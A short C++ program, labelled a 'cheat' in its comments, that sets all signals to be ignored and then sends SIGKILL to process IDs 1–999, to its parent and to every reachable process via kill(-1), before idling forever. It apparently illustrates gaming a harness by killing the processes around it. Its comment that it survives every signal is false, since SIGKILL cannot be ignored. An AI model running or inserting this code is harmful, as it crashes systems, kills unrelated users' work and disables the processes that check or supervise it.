// cheat: kills whoever it reaches, and lives on through every signal itself
// unconfined: not run, it would kill what it reaches
#include <csignal>
#include <unistd.h>

int main() {
    for (int number = 1; number < 65; number++)
        std::signal(number, SIG_IGN);
    for (int process = 1; process < 1000; process++)
        kill(process, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (;;)
        pause();
}
